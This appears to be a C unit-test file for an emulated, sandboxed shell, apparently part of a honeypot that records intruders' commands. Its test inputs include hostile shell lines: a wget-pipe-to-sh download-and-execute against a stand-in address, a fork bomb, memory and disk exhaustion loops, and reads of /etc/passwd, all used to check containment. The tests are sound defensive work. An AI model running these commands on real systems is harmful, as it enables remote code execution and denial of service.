/* A session as its owner sees it: bytes in, turns, bytes out, and the world asked through its hook. */
#include "shell/test-machine.h"

#include <errno.h>
#include <string.h>

static struct machine *machine;
static struct shell_device *device;

struct world {
    struct shell *shell;
    struct buf out, err;
    int64_t now;
    /* The hook. */
    enum fetch_answer answer;
    const char *content;
    unsigned fetches, runs;
    char url[200], path[200], ran[200];
    bool made, foreign;
    char told[1000];
};

static void output(void *context, int stream, const void *data, size_t n)
{
    struct world *w = context;
    buf_put(stream == 2 ? &w->err : &w->out, data, n);
}

static void fetch(void *context, const struct shell_fetch *what, struct shell_fetched *ret)
{
    struct world *w = context;
    w->fetches++;
    snprintf(w->url, sizeof w->url, "%s", what->url);
    *ret = (struct shell_fetched){ .answer = w->answer, .content = w->content,
                                   .n = w->content ? strlen(w->content) : 0 };
}

static void ran(void *context, const struct shell_ran *what)
{
    struct world *w = context;
    w->runs++;
    w->made = what->made;
    w->foreign = what->foreign;
    snprintf(w->path, sizeof w->path, "%s", what->path);
    snprintf(w->ran, sizeof w->ran, "%.*s", (int)what->n, (const char *)what->content);
}

/* What the world was told, a line each. */
static void told_command(void *context, const char *text, size_t n)
{
    struct world *w = context;
    size_t len = strlen(w->told);
    snprintf(w->told + len, sizeof w->told - len, "command %.*s\n", (int)n, text);
}

static void told_status(void *context, int value)
{
    struct world *w = context;
    size_t len = strlen(w->told);
    snprintf(w->told + len, sizeof w->told - len, "status %d\n", value);
}

static void told_unknown(void *context, const char *name, const char *answer)
{
    struct world *w = context;
    size_t len = strlen(w->told);
    snprintf(w->told + len, sizeof w->told - len, "unknown %s: %s\n", name, answer);
}

static const struct shell_hook hook = { 
    .output = output, .fetch = fetch, .ran = ran, .command = told_command, .status = told_status, .unknown = told_unknown
 };

static struct shell_options options(struct world *w)
{
    *w = (struct world){ .now = INT64_C(1700000000000000), .answer = FETCH_UNREACHABLE };
    buf_init(&w->out, 1 << 20);
    buf_init(&w->err, 1 << 20);
    return (struct shell_options){ .device = device, .name = "sh", .now = w->now, .seed = 1,
                                   .hook = &hook, .context = w };
}

static void release(struct world *w)
{
    shell_free(w->shell);
    buf_release(&w->out);
    buf_release(&w->err);
}

/* Turns until nobody has anything to do; time passes where somebody sleeps. */
static enum shell_state run_on(struct world *w, int64_t steps)
{
    enum shell_state state;
    for (int turns = 0; turns < 10000000; turns++) {
        state = shell_run(w->shell, steps, w->now);
        if (state == SHELL_ASLEEP)
            w->now = shell_wakes(w->shell);
        else if (state != SHELL_RUNNING)
            return state;
    }
    fail_msg("it does not end");
    return SHELL_ENDED;
}

static void command(struct world *w, const char *text, const struct shell_limits *limits)
{
    struct shell_options o = options(w);
    o.command = text;
    if (limits)
        o.limits = *limits;
    assert_int_equal(shell_make(&w->shell, &o), 0);
}

static void type(struct world *w, const char *s)
{
    assert_int_equal(shell_input(w->shell, s, strlen(s)), 0);
}

static void says(const struct buf *b, const char *s)
{
    assert_int_equal(b->len, strlen(s));
    assert_memory_equal(b->data, s, b->len);
}

/* ---- */

static void test_command(void **state)
{
    (void)state;
    struct world w;
    command(&w, "echo a; echo b >&2; exit 3", NULL);
    assert_int_equal(run_on(&w, 1 << 20), SHELL_ENDED);
    assert_int_equal(shell_status(w.shell), 3);
    says(&w.out, "a\n");
    says(&w.err, "b\n");
    release(&w);
}

static void test_terminal(void **state)
{
    (void)state;
    struct world w;
    struct shell_options o = options(&w);
    o.terminal = true;
    assert_int_equal(shell_make(&w.shell, &o), 0);
    assert_int_equal(run_on(&w, 1 << 20), SHELL_INPUT);
    buf_reset(&w.out);
    buf_reset(&w.err);
    type(&w, "if true\nthen ec");
    assert_int_equal(run_on(&w, 1 << 20), SHELL_INPUT);
    says(&w.err, "> ");
    type(&w, "ho yes; fi\n");
    assert_int_equal(run_on(&w, 1 << 20), SHELL_INPUT);
    says(&w.out, "yes\n");
    type(&w, "sleep 100\n");
    assert_int_equal(shell_run(w.shell, 1 << 20, w.now), SHELL_ASLEEP);
    type(&w, "\003");
    assert_int_equal(shell_run(w.shell, 1 << 20, w.now), SHELL_INPUT);
    buf_reset(&w.out);
    type(&w, "echo $?\n\004");
    assert_int_equal(run_on(&w, 1 << 20), SHELL_ENDED);
    assert_true(w.out.len >= 4 && !memcmp(w.out.data, "130\n", 4));
    release(&w);
}

/* Idle, with a terminal of its own: what malloc holds for it. */
static void test_idle_tty(void **state)
{
    (void)state;
    struct world w;
    struct shell_options o = options(&w);
    static const struct shell_identity identity = { .hostname = "other", .mac = { 2, 0, 0, 1, 2, 3 }, .has_mac = true,
                                                    .booted = INT64_C(1690000000000000), .pid_first = 4000, .address = "203.0.113.9" };
    o.terminal = o.tty = true;
    o.identity = &identity;
    assert_int_equal(shell_make(&w.shell, &o), 0);
    assert_int_equal(run_on(&w, 1 << 20), SHELL_INPUT);
    assert_in_range(shell_memory(w.shell), 1, 1664);
    release(&w);
}

/* Idle at its prompt, and after one small file: 1.5 kB and 8 kB are wanted, this keeps a class of malloc's free below. */
static void test_idle(void **state)
{
    (void)state;
    struct world w;
    struct shell_options o = options(&w);
    o.terminal = true;
    assert_int_equal(shell_make(&w.shell, &o), 0);
    run_on(&w, 1 << 20);
    assert_in_range(shell_memory(w.shell), 1, 1520);
    type(&w, "cd /tmp; echo hello >x\n");
    run_on(&w, 1 << 20);
    assert_true(shell_memory(w.shell) <= 8192);
    release(&w);
}

static void test_fetch(void **state)
{
    (void)state;
    struct world w;
    command(&w, "wget -q -O - http://192.0.2.1/x.sh | sh; wget -q http://192.0.2.1/f; sh f", NULL);
    w.answer = FETCH_PENDING;
    assert_int_equal(run_on(&w, 1 << 20), SHELL_FETCHING);
    assert_string_equal(w.url, "http://192.0.2.1/x.sh");
    w.answer = FETCH_FOUND;
    w.content = "echo fetched\n";
    shell_wake(w.shell);
    assert_int_equal(run_on(&w, 1 << 20), SHELL_ENDED);
    says(&w.out, "fetched\nfetched\n");
    release(&w);
}

/* What is run is told with its bytes, and whether the visitor made it or fetched it. */
static void test_ran(void **state)
{
    (void)state;
    struct world w;
    command(&w, "cd /tmp; printf '\\177ELF\\1\\1\\1zzzzzzzzzzz\\1\\0rest' >x; chmod 755 x; ./x a; echo $?", NULL);
    run_on(&w, 1 << 20);
    assert_int_equal(w.runs, 1);
    assert_string_equal(w.path, "./x");
    assert_true(w.made);
    assert_memory_equal(w.ran, "\177ELF", 4);
    release(&w);

    command(&w, "cd /tmp; wget -q http://192.0.2.1/x; chmod 755 x; ./x; echo $?", NULL);
    w.answer = FETCH_FOUND;
    w.content = "echo script";
    run_on(&w, 1 << 20);
    assert_int_equal(w.runs, 1);
    assert_false(w.made);
    says(&w.out, "script\n0\n");
    release(&w);
}

/* Who was killed and has no parent any more takes nobody's place. */
static void test_orphans(void **state)
{
    (void)state;
    struct world w;
    struct shell_limits limits = { .processes = 8 };
    command(&w, "for i in 1 2 3 4 5 6 7 8 9 10; do (sleep 1000 & echo $! >/tmp/p); kill $(cat /tmp/p); done; echo end", &limits);
    assert_int_equal(run_on(&w, 1 << 20), SHELL_ENDED);
    says(&w.out, "end\n");
    says(&w.err, "");
    release(&w);
}

/* ---- limits ---- */

static void ends(const char *text, struct shell_limits limits)
{
    struct world w;
    command(&w, text, &limits);
    assert_int_equal(run_on(&w, 1 << 20), SHELL_ENDED);
    assert_true(shell_memory(w.shell) <= limits.memory + 65536);
    release(&w);
}

static void test_told(void **state)
{
    static const char typed[] = "echo a; nosuch\r\r# none\rif true\rthen (exit 3)\rfi\rbusybox ECCHI\recho )\rexit 4\r";
    struct world w;
    struct shell_options o = options(&w);
    (void)state;
    o.terminal = o.tty = true;
    assert_int_equal(shell_make(&w.shell, &o), 0);
    assert_int_equal(run_on(&w, 100000), SHELL_INPUT);
    assert_int_equal(shell_input(w.shell, typed, sizeof typed - 1), 0);
    assert_int_equal(run_on(&w, 100000), SHELL_ENDED);
    assert_string_equal(w.told, "command echo a; nosuch\nunknown nosuch: sh: nosuch: not found\nstatus 127\n"
                                "command if true\nthen (exit 3)\nfi\nstatus 3\n"
                                "command busybox ECCHI\nunknown ECCHI: ECCHI: applet not found\nstatus 127\n"
                                "command echo )\nstatus 2\ncommand exit 4\nstatus 4\n");
    release(&w);
}

static void ends_within(const char *text, size_t most)
{
    struct world w;
    struct shell_options o = options(&w);
    o.command = text;
    o.limits.memory = most;
    o.limits.steps = 200000;
    if (shell_make(&w.shell, &o) == 0)
        run_on(&w, 1 << 20);
    release(&w);
}

static void test_limits(void **state)
{
    (void)state;
    struct shell_limits limits = { .memory = 1 << 20, .steps = 3000000, .output = 1 << 20, .processes = 20 };
    static const char *const scripts[] = {
        "while :; do :; done",
        "f() { f; }; f",
        "f() { f | f & }; f; wait",
        "f() { (f); }; f",
        "x=x; while :; do x=$x$x; done",
        "yes",
        "yes | cat | cat >/dev/null",
        "set -- x; while :; do set -- \"$@\" \"$@\"; done",
        "eval() { :; }; while :; do eval \"$(cat /bin/busybox)\"; done",
        "x='eval \"$x\"'; eval \"$x\"",
        "i=0; while :; do i=$((i+1)); echo >/tmp/$i; done",
        "while :; do cat /dev/zero; done | head -c 100000000 >/tmp/x",
        "cat /dev/zero >/tmp/x",
        "alias a='a a'; a",
        "echo 'sh $0' >/tmp/x; sh /tmp/x",
        "trap 'kill -USR1 $$' USR1; kill -USR1 $$; while :; do :; done",
        "while :; do sleep 1000000; done",
        "cd /tmp; while mkdir d && cd d; do :; done",
        "printf '%1000000000d' 1",
        "echo $(yes)",
        "case $(head -c 60000 /dev/zero | tr '\\0' a) in *a*a*a*a*a*a*a*a*a*b) ;; esac",
        "echo ${x:-${x:-${x:-${x:-$(echo $(echo $(echo $(echo))))}}}}",
        "ls /*/*/*/*/../../../*/*/*/../../../*/*/*/../../../*/*/*",
        "read x </dev/zero",
        "while :; do : & done",
        "while :; do (sleep 1000 & echo $! >/tmp/p); read x </tmp/p; kill $x; done",
        ("p=.; for i in 1 2 3 4 5 6 7 8 9; do p=$p/$p; done; ln -s $p /tmp/0; cd /tmp; i=0\n"
         "while [ $i -lt 38 ]; do ln -s $i/$p $((i+1)); i=$((i+1)); done; while :; do [ -e 38 ]; done"),
        "i=0; while :; do alias a$i=b; i=$((i+1)); done",
        "kill -- -2147483648; kill -9 -2147483647",
    };
    for (size_t i = 0; i < sizeof scripts / sizeof *scripts; i++)
        ends(scripts[i], limits);
}

/* Memory that runs out at any moment ends a process, and leaves nothing broken behind. */
static void test_exhausted(void **state)
{
    (void)state;
    static const char *const scripts[] = {
        "f() { i=0; while :; do eval v$i=1; i=$((i+1)); done; }; a=xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx; a=x b=y f",
        "f() { local a=bbbbbbbbbbbbbbbbb x; a=1; set -- 1 2 3 4; for k; do eval v$k=$k; done; }; a=1 b=2 c=3 d=4 e=5 f; a=1 b=2 c=3 d=4 :",
        "for i in a b c d e f; do case $i in $x|a*|?|[!b]) echo $i;; *) echo no | cat;; esac; done; x=$(echo a | cat; cat /etc/passwd)",
        "{ echo a; (echo b; { echo c; } 2>/dev/null) | cat; } >/tmp/y 2>&1; while read a b; do echo $b; done </tmp/y",
        "trap 'echo int; x=$(echo y)' USR1 EXIT; kill -USR1 $$; : & wait; jobs; alias a=b; unalias a; ls -l /proc/self/ /proc/*/exe",
        "echo 'echo $1; exit 2' >/tmp/s; chmod 755 /tmp/s; /tmp/s q; sh -c 'echo $0' a; ln -s no /tmp/l; echo x >/tmp/l; set -x; a=1 b=2 echo a",
    };
    for (size_t i = 0; i < sizeof scripts / sizeof *scripts; i++)
        for (size_t most = 1400; most < 12000; most += 416)
            ends_within(scripts[i], most);
}

/* A text that is parsed again and again uses up the steps as fast as its work takes time. */
static void test_parsing_costs(void **state)
{
    (void)state;
    static const char *const scripts[] = { "while :; do eval 'echo'; done", "trap 'echo; kill -USR1 $$' USR1; kill -USR1 $$; while :; do :; done" };
    struct shell_limits limits = { .steps = 160000 };
    for (size_t i = 0; i < sizeof scripts / sizeof *scripts; i++) {
        struct world w;
        command(&w, scripts[i], &limits);
        assert_int_equal(run_on(&w, 1 << 20), SHELL_ENDED);
        assert_in_range(w.out.len, 1000, 160000 / 16);
        release(&w);
    }
}

static size_t memory_after(struct world *w, const char *line, int times)
{
    while (times-- > 0) {
        type(w, line);
        run_on(w, 1 << 20);
    }
    return shell_memory(w->shell);
}

/* What a shell has done costs it nothing. */
static void test_forgets(void **state)
{
    (void)state;
    static const char *const lines[] = {
        ":\n", "/bin/true\n", "nosuch; /nosuch; /etc\n", "echo ~root/x ~nobody $((1+1)) ${x:-a} /e*/p* /proc/*\n",
        "type ls; command -v cat; hash ls\n", "echo a >/tmp/x; rm /tmp/x\n", "cd /tmp; cd -; cd ..; cd\n", "x=$(echo a | cat); unset x\n",
        "f() { local a=1; }; a=2 f; unset -f f\n", ": & wait\n", "sleep 1000 & kill $!; wait\n", "(sleep 1000 & echo $! >/tmp/p); kill $(cat /tmp/p); rm /tmp/p\n",
        "[ -d /proc/self ]; ls /proc/1 >/dev/null; cd /proc/self; cd\n", "set -x; PS4='$x'; :; set +x\n", "exec 5</etc/passwd; read x <&5; exec 5<&-; unset x\n",
        "trap : USR1; kill -USR1 $$; trap - USR1; alias a=b; unalias a\n", "echo 'exit 2' >/tmp/s; chmod 755 /tmp/s; /tmp/s; . /tmp/s & wait; rm /tmp/s\n",
    };
    for (size_t i = 0; i < sizeof lines / sizeof *lines; i++) {
        struct world w;
        struct shell_options o = options(&w);
        o.terminal = true;
        assert_int_equal(shell_make(&w.shell, &o), 0);
        size_t some = memory_after(&w, lines[i], 8), more = memory_after(&w, lines[i], 40);
        if (more > some + 64)
            fail_msg("%zu bytes, and then %zu: %s", some, more, lines[i]);
        release(&w);
    }
}

/* Those that have ended take no place that others need. */
static void test_many(void **state)
{
    (void)state;
    struct world w;
    command(&w, "i=0; while [ $i -lt 300 ]; do : & (sleep 1000 & echo $! >/tmp/p); read x </tmp/p; kill $x; i=$((i+1)); done; echo $i", NULL);
    assert_int_equal(run_on(&w, 1 << 20), SHELL_ENDED);
    says(&w.out, "300\n");
    says(&w.err, "");
    release(&w);
}

/* A slow reader, before whom something always lies: what was read makes room. */
static void test_input(void **state)
{
    (void)state;
    struct world w;
    struct shell_options o = options(&w);
    char lines[16384];
    memset(lines, ' ', sizeof lines);
    for (size_t i = 0; i < sizeof lines; i += 64) {
        lines[i] = ':';
        lines[i + 63] = '\n';
    }
    assert_int_equal(shell_make(&w.shell, &o), 0);
    for (int i = 0; i < 500; i++) {
        int e = shell_input(w.shell, lines, sizeof lines);
        assert_true(e == 0 || e == -ENOBUFS);
        assert_int_equal(shell_run(w.shell, 2000, w.now), SHELL_RUNNING);
    }
    assert_true(shell_memory(w.shell) < 1 << 20);
    release(&w);
}

/* Any budget gives the same. */
static void test_budget(void **state)
{
    (void)state;
    static const char text[] = "for i in 1 2 3; do echo $i | cat; (echo sub $i; foo) & done; wait; cat /etc/passwd | while read x; do echo $x; done\n"
                               "f() { local a=$(echo $1; echo err >&2); echo $a; }; f x | tee /tmp/y; cat /tmp/y; yes | head -n 3; echo $$ $!";
    struct world whole, steps;
    command(&whole, text, NULL);
    run_on(&whole, 1 << 30);
    for (int64_t budget = 1; budget < 100; budget *= 7) {
        command(&steps, text, NULL);
        run_on(&steps, budget);
        assert_int_equal(steps.out.len, whole.out.len);
        assert_memory_equal(steps.out.data, whole.out.data, whole.out.len);
        assert_int_equal(steps.err.len, whole.err.len);
        assert_memory_equal(steps.err.data, whole.err.data, whole.err.len);
        assert_int_equal(shell_status(steps.shell), shell_status(whole.shell));
        release(&steps);
    }
    release(&whole);
}

static int set_up(void **state)
{
    (void)state;
    return test_machine(&machine) || shell_device_make(&device, machine);
}

static int tear_down(void **state)
{
    (void)state;
    shell_device_free(device);
    machine_free(machine);
    return 0;
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_command), cmocka_unit_test(test_terminal), cmocka_unit_test(test_idle), cmocka_unit_test(test_idle_tty),
        cmocka_unit_test(test_fetch),   cmocka_unit_test(test_ran),      cmocka_unit_test(test_limits),
        cmocka_unit_test(test_budget),  cmocka_unit_test(test_exhausted), cmocka_unit_test(test_forgets),
        cmocka_unit_test(test_many),    cmocka_unit_test(test_input),   cmocka_unit_test(test_told),  cmocka_unit_test(test_orphans),
        cmocka_unit_test(test_parsing_costs),
    };
    return cmocka_run_group_tests(tests, set_up, tear_down);
}
